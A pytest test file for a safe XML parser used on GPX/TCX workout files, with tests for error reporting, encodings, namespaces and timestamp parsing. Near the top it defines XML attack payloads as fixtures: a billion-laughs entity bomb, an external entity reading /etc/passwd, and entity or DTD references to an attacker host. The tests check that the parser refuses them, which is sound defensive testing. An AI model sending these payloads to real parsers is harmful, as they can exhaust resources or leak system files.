"""Safe XML parsing: attacks refused, bad input reported precisely, odd-but-valid input read."""

from __future__ import annotations

import os
from pathlib import Path

import pandas as pd
import pytest

from runform.errors import InputFileError
from runform.io.xmlsafe import (
    float_of,
    local_name,
    parse_times,
    parse_xml,
    text_of,
    utc_offset_seconds,
)

CORPUS = Path(
    os.environ.get("RUNFORM_CORPUS", Path(__file__).resolve().parents[3] / "shared" / "corpus")
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<gpx version="1.1"><metadata><name>&lol9;</name></metadata></gpx>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<gpx version="1.1"><trk><name>&secret;</name></trk></gpx>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<gpx version="1.1"/>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE gpx SYSTEM "http://attacker.invalid/gpx.dtd">
<gpx version="1.1"/>
"""


def problem(data: bytes, path: str = "f.gpx", **kwargs: int) -> str:
    with pytest.raises(InputFileError) as info:
        parse_xml(data, path, **kwargs)
    assert info.value.path == path
    return info.value.problem


def test_billion_laughs_is_refused_as_entities() -> None:
    assert problem(BILLION_LAUGHS) == "refused: the XML declares entities (possible XML bomb)"


def test_external_entity_is_refused_without_reading_the_target() -> None:
    msg = problem(EXTERNAL_ENTITY)
    assert msg.startswith("refused: the XML declares entities")
    assert "root:" not in msg  # nothing of /etc/passwd leaks into the message


def test_parameter_entity_is_refused() -> None:
    assert problem(PARAMETER_ENTITY).startswith("refused: the XML declares entities")


def test_any_dtd_is_refused() -> None:
    msg = problem(EXTERNAL_DTD)
    assert msg.startswith("refused: the XML declares a document type (DTD)")


def test_not_xml() -> None:
    assert problem(b"hello, this is a text file\n") == (
        "not valid XML: syntax error (line 1, column 1)"
    )


def test_fit_bytes_get_a_hint() -> None:
    fit_header = b"\x0e\x10\xd9\x07\x00\x00\x00\x00.FIT\x00\x00" + b"\x00" * 32
    msg = problem(fit_header)
    assert msg.startswith("not valid XML: ")
    assert "looks like a FIT file" in msg


def test_malformed_xml_reports_line_and_column() -> None:
    # Line 2 holds "  <b></a>": the mismatched "</a>" starts at 1-based column 8.
    assert problem(b"<a>\n  <b></a>\n") == "not valid XML: mismatched tag (line 2, column 8)"


@pytest.mark.parametrize("data", [b"", b"   \n\t\r\n", b"\xef\xbb\xbf", b"\xef\xbb\xbf \n"])
def test_empty_file(data: bytes) -> None:
    assert problem(data) == "empty file"


def test_size_cap() -> None:
    msg = problem(b"<gpx/>" + b" " * 2000, max_bytes=1000)
    assert msg.startswith("too large:")


def test_utf8_bom_and_leading_whitespace_are_accepted() -> None:
    body = '<?xml version="1.0" encoding="UTF-8"?>\n<gpx><name>Zürich Lauf</name></gpx>'
    for data in (
        b"\xef\xbb\xbf" + body.encode(),
        b"\n\n" + body.encode(),
        b"\xef\xbb\xbf\n  " + body.encode(),
    ):
        root = parse_xml(data, "bom.gpx")
        assert root.tag == "gpx"
        assert text_of(root, "name") == "Zürich Lauf"


def test_utf16_document_is_read() -> None:
    text = '<?xml version="1.0" encoding="UTF-16"?><gpx><name>Łódź</name></gpx>'
    root = parse_xml(text.encode("utf-16"), "u16.gpx")
    assert text_of(root, "name") == "Łódź"


def test_namespaces_are_reduced_to_local_names() -> None:
    data = b"""<gpx xmlns="http://www.topografix.com/GPX/1/1"
      xmlns:gpxtpx="http://www.garmin.com/xmlschemas/TrackPointExtension/v1">
      <trk><trkseg><trkpt lat="1" lon="2"><extensions><gpxtpx:TrackPointExtension>
      <gpxtpx:hr>150</gpxtpx:hr></gpxtpx:TrackPointExtension></extensions></trkpt></trkseg></trk>
    </gpx>"""
    root = parse_xml(data, "ns.gpx")
    tags = {el.tag for el in root.iter()}
    assert tags == {"gpx", "trk", "trkseg", "trkpt", "extensions", "TrackPointExtension", "hr"}
    assert text_of(root, "trk/trkseg/trkpt/extensions/TrackPointExtension/hr") == "150"


def test_local_name() -> None:
    assert local_name("{http://www.topografix.com/GPX/1/1}trkpt") == "trkpt"
    assert local_name("trkpt") == "trkpt"


def test_float_of() -> None:
    assert float_of(" 3.5 ") == 3.5
    assert float_of("1e3") == 1000.0
    for bad in (None, "", "abc", "nan", "inf"):
        assert pd.isna(float_of(bad))


def test_parse_times_formats_and_counts() -> None:
    times, n_missing, n_invalid = parse_times(
        [
            "2020-01-11T19:45:27Z",
            "2020-01-11T19:45:27.250Z",
            "2019-04-25T11:05:05-06:00",
            "2011-11-29T12:12:00",
            None,
            "not a time",
        ]
    )
    assert str(times.dt.tz) == "UTC"
    assert times.iloc[0] == pd.Timestamp("2020-01-11 19:45:27", tz="UTC")
    assert times.iloc[1] == pd.Timestamp("2020-01-11 19:45:27.250", tz="UTC")
    assert times.iloc[2] == pd.Timestamp("2019-04-25 17:05:05", tz="UTC")
    assert times.iloc[3] == pd.Timestamp("2011-11-29 12:12:00", tz="UTC")
    assert times.iloc[4:].isna().all()
    assert (n_missing, n_invalid) == (1, 1)


def test_utc_offset_seconds() -> None:
    assert utc_offset_seconds("2019-04-25T11:05:05-06:00") == -21600
    assert utc_offset_seconds("2019-04-25T11:05:05+0530") == 19800
    assert utc_offset_seconds("2019-04-25T11:05:05+00:00") == 0
    assert utc_offset_seconds("2019-04-25T11:05:05Z") is None
    assert utc_offset_seconds("2019-04-25T11:05:05") is None
    assert utc_offset_seconds(None) is None


def test_corpus_malformed_tcx_position() -> None:
    path = CORPUS / "runpandas" / "malformed.tcx"
    if not path.is_file():
        pytest.skip(f"corpus folder absent ({CORPUS}); set RUNFORM_CORPUS to run corpus tests")
    data = path.read_bytes()
    msg = problem(data, str(path))
    assert msg.startswith("not valid XML: unbound prefix (line 4653, column 7)")
    # Independent check of the position: that line uses the xsi: prefix at column 7,
    # and the file never binds xmlns:xsi.
    line = data.decode("utf-8").splitlines()[4652]
    assert line[6:].startswith("<Creator xsi:type=")
    assert b"xmlns:xsi" not in data
